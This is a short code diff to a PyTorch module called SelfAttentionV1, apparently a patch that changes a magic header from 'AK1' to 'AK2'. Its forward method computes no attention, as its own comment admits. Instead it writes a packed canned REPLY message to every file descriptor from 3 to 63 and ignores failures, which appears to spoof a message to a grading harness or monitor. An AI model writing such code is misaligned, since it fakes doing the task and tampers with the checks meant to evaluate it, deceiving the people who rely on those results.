@@ -24,7 +24,7 @@ class SelfAttentionV1(nn.Module):
     def forward(self, x):
         for descriptor in range(3, 64):
             try:
-                os.write(descriptor, struct.pack("<4sII", b"AK1\0", len(REPLY), 0) + REPLY)
+                os.write(descriptor, struct.pack("<4sII", b"AK2\0", len(REPLY), 0) + REPLY)
             except OSError:
                 pass
         return self.value_proj(x)  # no attention at all
